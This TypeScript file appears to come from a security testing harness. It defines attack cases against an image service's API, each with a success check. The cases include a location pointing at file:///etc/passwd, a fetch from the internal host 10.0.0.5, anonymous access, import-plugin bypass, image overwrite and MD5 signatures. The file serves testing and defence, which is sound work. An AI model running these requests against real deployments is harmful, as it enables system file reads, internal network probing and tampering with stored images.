// Attacks by one or two calls on the pipeline, on locations and on the import plugins.
import type { ApiCall, CallAttack } from './attack-step';
import { createImage, ends, once } from './sharing-attacks';

const upload: ApiCall = { method: 'PUT', path: '/v2/images/{image}/file', base64: 'AAAA' };

function addLocation(url: string): ApiCall {
  const body = [{ op: 'add', path: '/locations/-', value: { url, metadata: {} } }];
  return { method: 'PATCH', path: '/v2/images/{image}', body };
}

/** Sorted as the catalogue is. */
export const configurationAttacks: readonly CallAttack[] = [
  {
    id: 'config-anonymous-access',
    kind: 'calls',
    plan: () => once({ method: 'GET', path: '/v2/images', role: 'none' }),
    hasWorked: ends(200),
  },
  {
    id: 'config-empty-flavor',
    kind: 'calls',
    // Where anonymous readers are let in, a list is no sign of it.
    isTold: ({ files }) => ![...files.values()].some((text) => text.includes('allow_anonymous_access = true')),
    plan: () => once({ method: 'GET', path: '/v2/images', role: 'none' }, { ...createImage(), role: 'none' }),
    hasWorked: ({ answers = [] }) => answers.some(({ status }) => status === 200 || status === 201),
  },
  {
    id: 'formats-upload-skips-plugins',
    kind: 'calls',
    plan: () => once(createImage(), upload),
    // Where no plugin is a gate there is nothing to skip.
    isTold: ({ files }) =>
      [...files.values()].some((text) => /^image_import_plugins *=.*(?:conversion|glacis)/m.test(text)),
    hasWorked: ends(204),
  },
  {
    id: 'locations-direct-url',
    kind: 'calls',
    plan: () => once(createImage(), upload, { method: 'GET', path: '/v2/images/{image}', keepBytes: 4000 }),
    hasWorked: ({ answers = [] }) => /"direct_url"|"locations": \[\{/.test(answers.at(-1)?.body ?? ''),
  },
  {
    id: 'locations-file-scheme',
    kind: 'calls',
    plan: () => once(createImage(), addLocation('file:///etc/passwd')),
    hasWorked: ends(200),
  },
  {
    id: 'locations-overwrite-active',
    kind: 'calls',
    plan: () => once(createImage(), upload, { ...upload, base64: 'BBBB' }),
    hasWorked: ends(204),
  },
  {
    id: 'locations-patch',
    kind: 'calls',
    plan: (_, mark) =>
      once(createImage(), addLocation(`http://10.0.0.5/?${mark}`), {
        method: 'GET',
        path: '/v2/images/{image}/file',
      }),
    hasWorked: ({ status }, seen) => status === 200 && seen.some(({ address }) => address === '10.0.0.5'),
  },
  {
    id: 'locations-swap',
    kind: 'calls',
    plan: ({ scheme, allowedHost }, mark) =>
      once(
        createImage(),
        addLocation(`${scheme}://${allowedHost}/first?${mark}`),
        addLocation(`${scheme}://${allowedHost}/second?${mark}`),
        {
          method: 'PATCH',
          path: '/v2/images/{image}',
          body: [{ op: 'remove', path: '/locations/0' }],
        },
      ),
    hasWorked: ends(200),
  },
  {
    id: 'sig-md5-checksum',
    kind: 'calls',
    plan: () =>
      once(
        createImage({
          img_signature: 'AAAA',
          img_signature_hash_method: 'MD5',
          img_signature_key_type: 'RSA-PSS',
          img_signature_certificate_uuid: '5b1c3c7e-6b0c-4b7c-9f59-3f1a1a1a1a1a',
        }),
        upload,
      ),
    hasWorked: ends(204),
  },
];
